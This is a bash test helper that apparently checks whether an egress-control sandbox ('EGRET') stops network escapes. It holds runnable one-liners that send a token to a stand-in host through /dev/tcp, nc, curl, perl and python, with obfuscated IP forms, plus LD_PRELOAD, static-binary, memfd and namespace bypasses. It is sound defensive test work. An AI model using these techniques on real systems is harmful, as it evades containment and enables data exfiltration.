# Attempts that are scripts, and the ways in which every attempt is run. Sourced by escapes.sh.
#
# Each escape_NAME sends NAME to 203.0.113.9:8080. The last word of the command line is the token.

escape_bash_redirection() { bash -c 'echo "$0" >/dev/tcp/203.0.113.9/8080' "$1"; }
escape_curl() { curl -s --max-time 2 --noproxy '*' "http://203.0.113.9:8080/$1"; }
escape_netcat() { echo "$1" | nc -N -w 1 203.0.113.9 8080; }
escape_perl() { perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("203.0.113.9:8080") or exit; print $s $ARGV[0]' "$1"; }
escape_python() { python3 -c 'import socket, sys; socket.create_connection(("203.0.113.9", 8080), 2).sendall(sys.argv[1].encode())' "$1"; }
escape_address_as_one_number() { curl -s --max-time 2 --noproxy '*' "http://3405803785:8080/$1"; }
escape_address_in_octal() { curl -s --max-time 2 --noproxy '*' "http://0313.0.0161.011:8080/$1"; }
# The loader ignores LD_PRELOAD where the program is another's; below no_new_privs it stays its caller's.
escape_program_of_another_user() {
	local drop=(setpriv --reuid=65534 --regid=65534 --clear-groups)
	[ "$(id -u)" = 0 ] || drop=()
	"${drop[@]}" "$T/setuid" tcp_connect
}
escape_environment_cleared() { env -i "$PATH_OF_ESCAPE" tcp_connect; }
escape_environment_cleared_by_the_shell() { bash -c 'unset LD_PRELOAD EGRET_CONFIG; exec "$0" tcp_connect' "$PATH_OF_ESCAPE"; }
escape_loader_called_directly() { env -u LD_PRELOAD /lib64/ld-linux-x86-64.so.2 "$PATH_OF_ESCAPE" tcp_connect; }
escape_static_program() { "$T/static" tcp_connect; }
escape_static_program_in_the_background() { ("$T/static" after_two_forks &) && sleep 0.5; }
escape_static_program_from_a_memory_file() {
	python3 -c 'import os, sys
fd = os.memfd_create("x")
os.write(fd, open(sys.argv[1], "rb").read())
os.execve(fd, ["x", "tcp_connect"], {})' "$T/static"
}
escape_configuration_replaced() { EGRET_MODE=off EGRET_CONFIG=/dev/null "$PATH_OF_ESCAPE" tcp_connect; }
escape_in_a_user_and_network_namespace_of_its_own() { unshare -Urn "$PATH_OF_ESCAPE" tcp_connect_by_system_call; }
escape_connection_inherited() { echo "$1" >&9; }
escape_supervisor_killed() { ESCAPE_KILLS=1 "$T/static" after_killing_the_parents; }

# What an attempt sends: a token of its own for each way, or the program's name where the environment is taken from it.
token_of() {
	case $2 in
	environment_cleared | static_program_from_a_memory_file) echo tcp_connect ;;
	*) echo "$2.$1" ;;
	esac
}

list_attempts() {
	local program
	for program in escape_send escape_connect escape_kernel escape_reach escape_libc; do
		"$PROGRAMS/$program" list | sed "s/^/$program /"
	done
	declare -F | sed -n 's/^declare -f escape_/script /p'
}

# in_way bare|preload|sandbox|nobody|withheld COMMAND...
in_way() {
	local way=$1
	shift
	case $way in
	bare) "$@" ;;
	preload) "$EGRET" run --sandbox=off --mode enforce -- "$@" ;;
	sandbox) "$EGRET" run --sandbox=require -- "$@" ;;
	nobody) as_nobody "$EGRET" run --sandbox=require -- "$@" ;;
	withheld) as_nobody "$PROGRAMS/without_call" docker "$EGRET" run --sandbox=require -- "$@" ;;
	esac
}

# try_one WAY PROGRAM NAME: true when it got out.
try_one() {
	local way=$1 program=$2 name=$3 token
	local -a command=("$PROGRAMS/$program" "$name")
	token=$(token_of "$way" "$name")
	export ESCAPE_TOKEN=$token
	[ "$program" != script ] || command=(bash -c '. "$1"; "escape_$2" "$3"' - "$ROOT/tests/escapes/attempts.sh" "$name" "$token")
	sleep 0.02
	: >"$T/seen"
	if [ "$name" = connection_inherited ]; then exec 9<>/dev/tcp/203.0.113.9/8080; fi
	in_way "$way" timeout -k 1 10 "${command[@]}" >"$T/attempt.out" 2>"$T/attempt.err" </dev/null || true
	exec 9>&-
	sleep 0.05
	grep -qaF "$token" "$T/seen" || grep -qx escaped "$T/attempt.out"
}
